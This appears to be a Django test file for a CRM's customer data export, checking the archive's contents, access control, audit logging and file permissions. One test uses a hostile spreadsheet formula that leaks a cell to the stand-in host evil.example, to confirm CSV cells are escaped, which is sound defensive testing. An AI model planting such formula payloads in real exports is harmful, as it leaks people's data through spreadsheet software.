from __future__ import annotations

import csv
import io
import json
import zipfile

from auditlog.models import LogEntry
from django.core.management import CommandError, call_command

from tenure.crm.customers.models import ConsentChange

from . import people
from .base import PrivacyTestCase

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&C2,"Click me")'


class ExportTestCase(PrivacyTestCase):
    def export(self, user):
        self.login(user)
        return self.client.post(f"/privacy/customers/{self.zoltan.pk}/export/")

    def archive(self, response) -> zipfile.ZipFile:
        self.assertEqual(response["Content-Type"], "application/zip")
        return zipfile.ZipFile(io.BytesIO(response.content))

    def rows(self, archive: zipfile.ZipFile, name: str) -> list[dict]:
        return json.loads(archive.read(f"{name}.json"))

    def test_it_gives_everything_held_about_the_person_as_json_and_csv(self):
        from tenure.crm.loyalty import ledger

        ledger.grant(self.zoltan.pk, 40, "Sorry for the late parcel", key="gift:zoltan")
        archive = self.archive(self.export(self.admin))

        kinds = {"profile", "consent_history", "orders", "order_lines", "returns",
                 "return_lines", "interactions", "activities", "complaints",
                 "complaint_history", "survey_invitations", "survey_answers", "messages",
                 "notifications", "merges", "aliases", "scores", "purchase_figures",
                 "managers", "loyalty_entries", "loyalty_tier_moves",
                 # Other apps' records of the customer, under their model's name.
                 "campaigns_delivery", "campaigns_coupon", "loyalty_account",
                 "loyalty_referralcode", "loyalty_referral"}
        names = set(archive.namelist())
        self.assertEqual(names, {f"{kind}.{ext}" for kind in kinds for ext in ("json", "csv")}
                         | {"manifest.json"})
        profile = self.rows(archive, "profile")[0]
        self.assertEqual((profile["name"], profile["email"], profile["phone"]),
                         (people.ZOLTAN["name"], people.ZOLTAN["email"], people.ZOLTAN["phone"]))
        self.assertEqual(len(self.rows(archive, "orders")), 2)
        self.assertEqual([line["product_sku"] for line in self.rows(archive, "order_lines")],
                         ["TEA-1", "TEA-1"])
        self.assertEqual(len(self.rows(archive, "returns")), 1)
        self.assertEqual(len(self.rows(archive, "complaint_history")), 2)
        self.assertEqual(self.rows(archive, "survey_answers")[0]["comment"],
                         f"I am {people.ZOLTAN['name']} and the parcel was late")
        self.assertEqual(len(self.rows(archive, "messages")), 3)
        self.assertTrue(any(people.ZOLTAN["name"] in n["text"]
                            for n in self.rows(archive, "notifications")))
        self.assertEqual([(row["manager"], row["ended_at"])
                          for row in self.rows(archive, "managers")], [("bob", None)])
        self.assertEqual([(row["points"], row["reason"])
                          for row in self.rows(archive, "loyalty_entries")],
                         [(40, "Sorry for the late parcel")])
        snapshot = self.rows(archive, "merges")[0]["snapshot"]
        self.assertEqual(snapshot["removed"]["fields"]["email"], people.OLD_ZOLTAN["email"])

    def test_it_exports_every_field_of_the_consent_history(self):
        archive = self.archive(self.export(self.admin))

        change = self.rows(archive, "consent_history")[0]
        fields = {f.name if f.is_relation and f.name == "changed_by" else f.attname
                  for f in ConsentChange._meta.concrete_fields}
        self.assertEqual(set(change), fields)
        self.assertEqual((change["source"], change["changed_by"], change["granted"]),
                         ("web_form", "bob", True))

    def test_it_holds_nothing_about_other_customers(self):
        archive = self.archive(self.export(self.admin))

        for name in archive.namelist():
            text = archive.read(name).decode("utf-8")
            for value in (people.OLHA["name"], people.OLHA["email"], people.OLHA["phone"]):
                self.assertNotIn(value, text, name)

    def test_its_csv_cells_are_never_formulas_and_phones_stay_readable(self):
        self.zoltan.city = HOSTILE
        self.zoltan.save()

        archive = self.archive(self.export(self.admin))

        text = archive.read("profile.csv").decode("utf-8-sig")
        row = next(csv.DictReader(io.StringIO(text)))
        self.assertEqual(row["city"], "'" + HOSTILE)
        self.assertEqual(row["phone"], people.ZOLTAN["phone"])
        self.assertEqual(self.rows(archive, "profile")[0]["city"], HOSTILE)

    def test_it_records_who_exported_it(self):
        self.export(self.admin)

        entry = LogEntry.objects.get(additional_data__access="export",
                                     additional_data__customer=self.zoltan.pk)
        self.assertEqual((entry.actor, entry.action), (self.admin, LogEntry.Action.ACCESS))

    def test_it_refuses_everyone_but_administrators(self):
        for user in (self.manager, self.marketer, self.support, self.analyst, self.nobody):
            with self.subTest(user.username):
                self.assertEqual(self.export(user).status_code, 403)
        self.assertFalse(LogEntry.objects.filter(additional_data__access="export",
                                                 object_pk=str(self.zoltan.pk)).exists())
        self.client.logout()
        response = self.client.post(f"/privacy/customers/{self.zoltan.pk}/export/")
        self.assertEqual(response.status_code, 302)

    def test_it_is_a_post_and_answers_404_for_a_missing_customer(self):
        self.login(self.admin)
        self.assertEqual(self.client.get(f"/privacy/customers/{self.zoltan.pk}/export/")
                         .status_code, 405)
        self.assertEqual(self.client.post("/privacy/customers/99999999999/export/")
                         .status_code, 404)

    def test_the_customer_page_shows_the_buttons_to_administrators_only(self):
        url = f"/customers/{self.zoltan.pk}/"
        self.login(self.admin)
        page = self.client.get(url)
        self.assertContains(page, f'action="/privacy/customers/{self.zoltan.pk}/export/"')
        self.assertContains(page, f'href="/privacy/customers/{self.zoltan.pk}/erase/"')
        self.login(self.manager)
        page = self.client.get(url)
        self.assertNotContains(page, "/privacy/customers/")

    def test_the_command_writes_a_file_only_its_owner_reads_and_records_it(self):
        out = self.var / "zoltan.zip"

        call_command("privacy", "export", "--customer", str(self.zoltan.pk), "--out", str(out),
                     stdout=io.StringIO())

        self.assertEqual(out.stat().st_mode & 0o777, 0o600)
        with zipfile.ZipFile(out) as archive:
            self.assertIn("profile.json", archive.namelist())
        entry = LogEntry.objects.get(additional_data__via="command line")
        self.assertEqual(entry.additional_data["customer"], self.zoltan.pk)

    def test_the_command_fails_on_a_file_it_cannot_write(self):
        with self.assertRaises(CommandError) as caught:
            call_command("privacy", "export", "--customer", str(self.zoltan.pk),
                         "--out", str(self.var / "no-such-folder" / "z.zip"))
        self.assertEqual(caught.exception.returncode, 1)
        self.assertIn("cannot write", str(caught.exception))
